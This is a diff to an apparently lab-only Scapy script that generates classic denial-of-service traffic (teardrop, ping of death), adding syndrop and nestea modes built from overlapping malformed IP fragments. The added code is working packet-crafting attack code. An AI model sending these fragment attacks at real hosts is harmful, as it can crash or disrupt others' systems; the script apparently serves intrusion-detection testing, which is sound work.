@@ -2,7 +2,7 @@
 """Classic denial-of-service attacks (the DARPA 1998/99 evaluations' names), sent with Scapy
 from lab/classic.sh's attacker namespace, only to lab addresses (checked).
 
-    classic.py smurf|fraggle|teardrop|pod IFACE
+    classic.py smurf|fraggle|teardrop|syndrop|nestea|pod IFACE
     environment: DST (the broadcast address, default 198.18.0.255), RATE (a second, 250),
     COUNT (400), PORT (fraggle's, 7: echo; 19: chargen)
 """
@@ -30,6 +30,20 @@ elif kind == "teardrop":  # overlapping UDP fragments (the second starts inside 
         b = IP(dst=V, id=1000 + i, frag=3, proto=17) / Raw(b"B" * 4)
         sendp(Ether() / a, iface=iface); sendp(Ether() / b, iface=iface)
         time.sleep(0.01)
+elif kind == "syndrop":   # teardrop over TCP: a SYN's first fragment, then one inside it
+    for i in range(120):
+        a = IP(dst=V, id=3000 + i, flags="MF", frag=0, proto=6) / Raw(bytes(TCP(sport=4000 + i, dport=80, flags="S")) + b"S" * 28)
+        b = IP(dst=V, id=3000 + i, frag=3, proto=6) / Raw(b"T" * 4)
+        sendp(Ether() / a, iface=iface); sendp(Ether() / b, iface=iface)
+        time.sleep(0.015)
+elif kind == "nestea":    # three fragments: the third starts at 0 again, over the other two
+    for i in range(100):
+        a = IP(dst=V, id=5000 + i, flags="MF", frag=0, proto=17) / UDP(sport=5353 + i, dport=53) / Raw(b"N" * 10)
+        b = IP(dst=V, id=5000 + i, frag=6, proto=17) / Raw(b"E" * 8)
+        c = IP(dst=V, id=5000 + i, flags="MF", frag=0, proto=17) / Raw(b"Z" * 232)
+        for f in (a, b, c):
+            sendp(Ether() / f, iface=iface)
+        time.sleep(0.02)
 elif kind == "pod":       # ping of death: fragments of an echo request longer than 65,535 bytes
     for i in range(12):
         frags = fragment(IP(dst=V, id=2000 + i) / ICMP() / Raw(b"P" * 65400), fragsize=1480)
